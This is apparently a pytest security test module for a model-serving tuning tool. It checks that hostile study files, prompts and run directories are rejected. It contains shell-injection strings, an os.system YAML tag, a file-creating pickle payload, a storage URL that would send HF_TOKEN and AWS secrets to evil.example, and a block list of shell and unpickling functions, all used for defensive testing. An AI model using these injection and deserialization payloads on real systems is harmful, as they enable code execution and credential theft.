"""Hostile study files, prompts and run directories: refused with one error, or harmless. Nothing reaches a shell."""

from __future__ import annotations

import ast
import io
import json
import os
import pickle
import shlex
import sqlite3
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import optuna
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import yaml
from typer.testing import CliRunner

from reports.console import SafeConsole
from reports.deployment.choice import Wishes
from reports.exports import FORMATS, write_export
from reports.study_report import CheckRow
from reports.terminal import print_report
from sweeper.check import check_study
from sweeper.cli import app
from sweeper.config import StudyConfig
from sweeper.errors import SweeperError
from sweeper.records import Interval, TrialState
from sweeper.rules.algorithms import ALGORITHMS
from sweeper.runs.directory import RunDirectory, read_run
from sweeper.runs.request_table import read_requests
from sweeper.server.command import Address, launch_command
from sweeper.server.prepare import prepare_engine
from sweeper.server.setup import EngineSetup, shared_pins
from sweeper.space import enumerate_space
from sweeper.speculation import NO_SPECULATION
from sweeper.storage.known import TRUSTED, note_storage
from sweeper.study_file.reading import load_study_file
from sweeper.trial.order import TrialOrder, TrialPlan, Watch
from sweeper.trial.run import run_trial
from sweeper.workload.conversation import WorkloadError
from sweeper.workload.prompts import plan_prompts, read_conversations
from sweeper.workload.sources import read_file
from tests.checkpoints import write_eagle3
from tests.command_line import REPOSITORY, sweeper
from tests.conftest import WriteStudy
from tests.reports.test_study_report import report as report_of
from tests.reports.test_study_report import row

ROOMS = ("sweeper", "actors", "reports")
SHELLS = {"os.system", "os.popen", "subprocess.getoutput", "subprocess.getstatusoutput", "pty.spawn"}
SHELL_STARTS = ("create_subprocess_shell", "execl", "execlp", "spawnl", "spawnlp")
UNPICKLERS = {"pickle", "cPickle", "marshal", "shelve", "dill", "joblib", "cloudpickle", "jsonpickle"}
EVALUATORS = {"eval", "exec", "compile"}


def sources() -> Iterator[tuple[Path, ast.AST]]:
    for room in ROOMS:
        for path in (REPOSITORY / room).rglob("*.py"):
            yield path.relative_to(REPOSITORY), ast.parse(path.read_text("utf-8"))


def name_of(node: ast.expr) -> str:
    return ast.unparse(node) if isinstance(node, (ast.Name, ast.Attribute)) else ""


def test_no_code_starts_a_shell_or_evaluates_text() -> None:
    found = []
    for path, tree in sources():
        for call in (node for node in ast.walk(tree) if isinstance(node, ast.Call)):
            name, words = name_of(call.func), {k.arg: k.value for k in call.keywords}
            shell = words.get("shell")
            first = call.args[0] if call.args else None
            begins_a_shell = isinstance(first, ast.List) and any(
                isinstance(e, ast.Constant) and str(e.value).rpartition("/")[2] in ("sh", "bash")
                for e in first.elts[:1]
            )
            if (
                name in SHELLS
                or name.rpartition(".")[2] in SHELL_STARTS
                or name in EVALUATORS
                or begins_a_shell
                or (shell is not None and not (isinstance(shell, ast.Constant) and shell.value is False))
            ):
                found.append(f"{path}:{call.lineno}: {ast.unparse(call)[:80]}")
    assert found == []


def test_no_code_loads_pickles_or_yaml_objects() -> None:
    found = []
    for path, tree in sources():
        for node in ast.walk(tree):
            names: list[str] = []
            if isinstance(node, ast.Import):
                names = [alias.name.partition(".")[0] for alias in node.names]
            elif isinstance(node, ast.ImportFrom):
                # The name of torch.load's complaint loads nothing.
                complaint = node.module == "pickle" and [n.name for n in node.names] == ["UnpicklingError"]
                names = [] if complaint else [(node.module or "").partition(".")[0]]
            elif isinstance(node, ast.Call):
                words = {k.arg: ast.unparse(k.value) for k in node.keywords}
                called = name_of(node.func)
                if (
                    called in ("yaml.load", "yaml.unsafe_load", "yaml.full_load")
                    or words.get("allow_pickle") == "True"
                ):
                    names = ["pickle"]
                if called.endswith("read_pickle") or (
                    called == "torch.load" and words.get("weights_only") != "True"
                ):
                    names = ["pickle"]
            if UNPICKLERS & set(names):
                found.append(f"{path}:{node.lineno}")  # type: ignore[attr-defined]
    assert found == []


def grid_of(name: str) -> dict[str, Any]:
    given = {p.name: (p.choices or (3,))[0] for p in ALGORITHMS[name].parameters if p.required}
    return {"algorithm": name, **given}


@pytest.mark.parametrize("algorithm", [*ALGORITHMS, "NONE"])
def test_every_server_listens_on_the_loopback_and_wants_its_own_key(
    write_study: WriteStudy, algorithm: str
) -> None:
    grids = [grid_of(algorithm if algorithm in ALGORITHMS else "EAGLE3")]
    study = load_study_file(write_study(space={"grids": grids}, engine={"extra_args": {"dtype": "half"}}))
    config = (
        enumerate_space(study.space).candidates[0].requested if algorithm in ALGORITHMS else NO_SPECULATION
    )
    setup = EngineSetup("0.5.23", pins=shared_pins(study, "0.5.23"))
    command = launch_command(study, config, setup, Address(30000, "the-key", nccl_port=30001))
    for flag, value in (("--host", "127.0.0.1"), ("--api-key", "the-key"), ("--port", "30000")):
        assert command.count(flag) == 1
        assert command[command.index(flag) + 1] == value
    assert command[1:3] == ["-m", "sglang.launch_server"]


HOSTILE = "$(touch pwned) `touch pwned` ; touch pwned & 'q' \"q\" #x [bold]"


def hostile_study(write_study: WriteStudy, folder: Path) -> Path:
    """Every free text holds what a shell would run; directories and files have such names, too."""
    (folder / f"target {HOSTILE.replace('/', '')}").mkdir()
    (folder / f"target {HOSTILE}" / "config.json").write_text("{}")
    write_eagle3(folder / f"draft {HOSTILE}")
    rows = [{"id": f"{HOSTILE} {i}", "prompt": f"{HOSTILE} {i}"} for i in range(80)]
    (folder / f"{HOSTILE}.jsonl").write_text("\n".join(map(json.dumps, rows)))
    return write_study(
        engine={
            "model": f"target {HOSTILE}",
            "extra_args": {"served-model-name": HOSTILE, "cuda-graph-bs-decode": [HOSTILE, "x"]},
            "env": {"HOSTILE": HOSTILE, "FAKE_FAULTS": json.dumps({"a": HOSTILE})},
        },
        space={"drafts": {"a": {"path": f"draft {HOSTILE}"}, "b": {"path": "draft_b"}}},
        workload={
            "prompts": f"{HOSTILE}.jsonl",
            "prompt_column": HOSTILE,
            "chat_template_kwargs": {"x": HOSTILE},
        },
        runs_dir=str(folder / f"runs {HOSTILE}"),
    )


def test_what_a_shell_would_run_is_passed_on_as_it_is(
    write_study: WriteStudy, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    study = load_study_file(hostile_study(write_study, tmp_path))
    command = shlex.split(check_study(study).command)
    assert command[command.index("--served-model-name") + 1] == HOSTILE
    assert command[command.index("--model-path") + 1] == str(tmp_path / f"target {HOSTILE}")
    plan = TrialPlan(study, prepare_engine(study), plan_prompts(study, read_conversations(study)))
    order = TrialOrder(enumerate_space(study.space).candidates[0], study.workload.loads)
    result = run_trial(plan, order, tmp_path / "server.log", Watch())
    assert result.record.state is TrialState.COMPLETE, result.record.failure
    assert repr(HOSTILE)[1:-1] in result.log.replace('\\"', '"') or HOSTILE in result.log
    assert list(tmp_path.rglob("pwned")) == []


@pytest.mark.parametrize("command", ["check", "run"])
def test_a_hostile_file_ends_with_one_error_and_leaves_nothing(tmp_path: Path, command: str) -> None:
    path = tmp_path / "study.yaml"
    path.write_text("study: x\nengine: !!python/object/apply:os.system ['touch pwned']\n")
    done = sweeper(command, str(path))
    assert done.returncode == 2
    assert done.stderr.count("error:") == 1
    assert f"{path}:2: engine: the tag !!python/object/apply:os.system is not allowed" in done.stderr.replace(
        "\n", ""
    )
    assert list(tmp_path.iterdir()) == [path]
    assert not (REPOSITORY / "pwned").exists()


@pytest.mark.parametrize("name", ["../x", "a/b", "a\nb", "\x1b[31m", "a#b", "..", "-x"])
def test_the_name_option_is_a_name(write_study: WriteStudy, name: str) -> None:
    done = CliRunner().invoke(app, ["run", str(write_study()), f"--name={name}"])
    assert done.exit_code == 2
    assert "--name" in done.stderr
    assert "\x1b" not in done.stderr


def read(path: Path, study: StudyConfig) -> Any:
    return read_file(str(path), study.workload)


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b'{"prompt": "a"}\n{"prompt": "caf\xe9"}\n', "p.jsonl:2: not UTF-8 text"),
        ('{"prompt": "a"}\n'.encode("utf-16"), "it begins like UTF-16"),
        (b'{"prompt": "\\ud800 x"}\n', r"p.jsonl:1: \\ud800 is half of a character"),
        (
            b'{"prompt": "x", "id": ' + b"9" * 5000 + b"}\n",
            "p.jsonl:1: no JSON: a number has too many digits",
        ),
        (b"[" * 200_000, "nested too deeply"),
        (b'{"prompt": ' + b'{"a":' * 200_000, "p.jsonl:1: no JSON: nested too deeply"),
        (b'{"prompt": "' + b"x" * 12_000_000, "p.jsonl:1: no JSON"),
        (b"\x00" * 1000, "p.jsonl:1: no JSON"),
    ],
    ids=["latin 1", "UTF-16", "surrogate", "digits", "deep array", "deep object", "12 MB line", "zeros"],
)
def test_odd_prompt_files_are_named(
    study: StudyConfig, tmp_path: Path, content: bytes, expected: str
) -> None:
    path = tmp_path / "p.jsonl"
    path.write_bytes(content)
    began = time.monotonic()
    with pytest.raises(WorkloadError, match=expected):
        read(path, study)
    assert time.monotonic() - began < 3


def test_a_prompt_of_12_megabytes_on_one_line_is_a_prompt(study: StudyConfig, tmp_path: Path) -> None:
    path = tmp_path / "p.jsonl"
    path.write_text(json.dumps({"prompt": "x" * 12_000_000}))
    began = time.monotonic()
    assert len(read(path, study).items[0].turns[0][0].content) == 12_000_000
    assert time.monotonic() - began < 3


def test_pipes_and_devices_are_no_prompts(
    study: StudyConfig, write_study: WriteStudy, tmp_path: Path
) -> None:
    os.mkfifo(tmp_path / "pipe")
    for path in (tmp_path / "pipe", Path("/dev/zero"), tmp_path):
        with pytest.raises(WorkloadError, match="no regular file|Is a directory"):
            read(path, study)
        with pytest.raises(SweeperError, match="workload.prompts: no such file"):
            load_study_file(write_study(workload={"prompts": str(path)}))


# --- run directories that come from somebody else


class Planted:
    """Unpickling it creates a file."""

    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[Any, ...]:
        return (open, (str(self.mark), "w"))


@pytest.fixture
def foreign(write_study: WriteStudy, tmp_path: Path) -> RunDirectory:
    """A run with an empty study, as if unpacked from an archive."""
    config = load_study_file(write_study())
    run = RunDirectory(tmp_path / "foreign")
    run.write_study(config)
    storage = f"sqlite:///{run.path}/study.db"
    optuna.create_study(study_name=config.study, storage=storage, direction="maximize")
    return run


def change(run: RunDirectory, **changes: Any) -> None:
    data = yaml.safe_load(run.study_file.read_text())
    run.study_file.unlink()
    run.study_file.write_text(yaml.safe_dump(data | changes))


def test_a_run_cannot_send_variables_to_a_storage_of_its_choice(
    foreign: RunDirectory, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    storage = "postgresql+psycopg://me:${HF_TOKEN}@evil.example/${AWS_SECRET_ACCESS_KEY}"
    monkeypatch.setenv("HF_TOKEN", "value-of-the-token")
    change(foreign, storage=storage)
    opened: list[Any] = []
    monkeypatch.setattr("sweeper.runs.directory.open_storage", lambda *given: opened.append(given))
    with pytest.raises(SweeperError, match="no study was run from here in postgresql") as refused:
        read_run(foreign)
    assert "value-of-the-token" not in str(refused.value)
    assert opened == []


def test_a_storage_of_ones_own_is_opened(
    foreign: RunDirectory, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    storage = f"sqlite:///{foreign.path}/study.db"
    change(foreign, storage=storage)
    with pytest.raises(SweeperError, match="no study was run from here"):
        read_run(foreign)
    monkeypatch.setenv(TRUSTED, storage)
    assert _opens(foreign)
    monkeypatch.delenv(TRUSTED)
    note_storage(storage)  # as a sweep does
    assert _opens(foreign)


def _opens(run: RunDirectory) -> bool:
    """Whether it gets as far as the study, which is none of sweeper's."""
    try:
        read_run(run)
    except SweeperError as error:
        return "no study was run from here" not in str(error)
    return True


def test_a_study_file_that_is_a_link_to_something_else_is_an_error(
    foreign: RunDirectory, tmp_path: Path
) -> None:
    for target in ("/etc/passwd", "/dev/zero", str(tmp_path)):
        foreign.study_file.unlink()
        foreign.study_file.symlink_to(target)
        with pytest.raises(SweeperError) as caught:
            read_run(foreign)
        assert "root:" not in str(caught.value)


def test_reports_are_not_written_through_links(foreign: RunDirectory, tmp_path: Path) -> None:
    mine = tmp_path / "mine.txt"
    mine.write_text("mine")
    foreign.table.symlink_to(mine)
    foreign.write_table("a,b\n")
    assert mine.read_text() == "mine"
    assert foreign.table.read_text() == "a,b\n"
    (tmp_path / "elsewhere").mkdir()
    foreign.deploy.symlink_to(tmp_path / "elsewhere")
    with pytest.raises(SweeperError, match="leads out of the run directory"):
        foreign.write_deployment("sglang.yaml", "x")
    assert list((tmp_path / "elsewhere").iterdir()) == []


def test_pickles_in_tables_stay_closed(tmp_path: Path) -> None:
    """Arrow's Python extension type is a pickle in a parquet file's schema."""
    mark = tmp_path / "mark"
    metadata = {
        b"ARROW:extension:name": b"arrow.py_extension_type",
        b"ARROW:extension:metadata": pickle.dumps(Planted(mark)),
    }
    schema = pa.schema([pa.field("prompt", pa.binary(), metadata=metadata)])
    path = tmp_path / "x.parquet"
    pq.write_table(pa.table({"prompt": [pickle.dumps(Planted(mark))]}, schema=schema), path)
    with pytest.raises(SweeperError, match="no table of requests"):
        read_requests(path)
    assert not mark.exists()


def test_pickles_in_the_storage_stay_closed(foreign: RunDirectory, tmp_path: Path) -> None:
    mark = tmp_path / "mark"
    with sqlite3.connect(foreign.path / "study.db") as database:
        planted = pickle.dumps(Planted(mark))
        database.execute(
            "insert into study_user_attributes (study_id, key, value_json) values (1, 'settings', ?)",
            (planted,),
        )
    with pytest.raises(Exception):  # noqa: B017, PT011  whichever of them finds that it is no JSON
        read_run(foreign)
    assert not mark.exists()


def test_texts_of_a_run_neither_reach_the_terminal_raw_nor_leave_a_comment(
    study: StudyConfig, tmp_path: Path
) -> None:
    """A whole report and export of a run whose every text was tampered with."""
    hostile = "x\x1b]0;owned\x07\nhost: 0.0.0.0\u2028y: 1 [/bold][link=http://evil]"
    texts = {"failure": hostile, "unequal": [hostile], "pruned": hostile, "next_step": hostile}
    fast = Interval(1.5, 1.4, 1.6)
    best = row(0, fast, confirmed=fast).model_copy(update=texts)
    failed = row(1, Interval(1.2, 1.1, 1.3), lossy=hostile).model_copy(
        update={"failure_class": "CRASH", "confirmation_failure": hostile} | texts
    )
    check = CheckRow(when=hostile, server=hostile, drift=None, beyond_tolerance=True, failure=hostile)
    told = report_of(best, failed).model_copy(
        update={
            "model": hostile,
            "hardware": hostile,
            "prompt_notes": [hostile],
            "confounders": [hostile],
            "skipped": {"c": hostile},
            "checks": [check],
        }
    )
    out = io.StringIO()
    print_report(told, SafeConsole(file=out, force_terminal=True, color_system=None, width=200))
    assert "\x1b" not in out.getvalue()
    assert "[link=http://evil]" in out.getvalue()
    run = RunDirectory(tmp_path / "run")
    done = write_export(study, told, run, Wishes())
    exported = yaml.safe_load(Path(done.path).read_text())
    assert "host" not in exported
    assert "y" not in exported
    assert exported["speculative-algorithm"] == "EAGLE3"
    for name in FORMATS.keys() - {"adaptive"}:
        other = Path(write_export(study, told, run, Wishes(format=name)).path).read_text()
        assert "\x1b" not in other
        assert not any(line.startswith(("host", "y:")) for line in other.splitlines())
